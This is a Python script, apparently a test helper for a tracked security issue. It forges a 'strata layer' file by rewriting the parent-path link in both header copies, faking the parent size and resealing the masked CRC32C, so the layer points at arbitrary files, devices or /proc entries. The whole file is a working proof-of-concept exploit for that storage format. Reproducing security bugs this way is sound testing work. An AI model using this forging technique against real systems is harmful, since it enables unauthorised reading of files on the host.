#!/usr/bin/python3
"""Rewrites the parent link in both header copies of a strata layer, CRC resealed: the layer
file an attacker would upload (issue 13). Usage: relink_layer.py LAYER NEW_PARENT_PATH
parent_size becomes the target's size as fstat reports it (0 for a FIFO, a device, /proc),
so the only checks left between the link and the target's bytes are the parent rules.
The offsets and the masked CRC32C are blockstore/FORMAT.md's header table."""
import os
import stat
import struct
import sys

from crc32c import crc32c  # tests/lib/crc32c.py, beside this file

HEADER_BLOCK = 4096
OFF_PARENT_SIZE = 80
OFF_PARENT_PATH_LEN, OFF_PARENT_PATH, MAX_PARENT_PATH = 152, 256, 1024
OFF_CRC = HEADER_BLOCK - 4


def mask(crc):
    return ((((crc >> 15) | (crc << 17)) & 0xFFFFFFFF) + 0xA282EAD8) & 0xFFFFFFFF


def main():
    layer, parent = sys.argv[1], sys.argv[2].encode()
    assert len(parent) <= MAX_PARENT_PATH
    target = os.path.join(os.path.dirname(os.path.abspath(layer)), sys.argv[2])
    try:
        st = os.stat(target)
        size = st.st_size if stat.S_ISREG(st.st_mode) else 0
    except OSError:
        size = 0
    with open(layer, "r+b") as f:
        for copy in (0, HEADER_BLOCK):
            f.seek(copy)
            block = bytearray(f.read(HEADER_BLOCK))
            struct.pack_into("<H", block, OFF_PARENT_PATH_LEN, len(parent))
            struct.pack_into("<Q", block, OFF_PARENT_SIZE, size)
            block[OFF_PARENT_PATH:OFF_PARENT_PATH + MAX_PARENT_PATH] = parent.ljust(
                MAX_PARENT_PATH, b"\0")
            struct.pack_into("<I", block, OFF_CRC, mask(crc32c(bytes(block[:OFF_CRC]))))
            f.seek(copy)
            f.write(block)


if __name__ == "__main__":
    main()
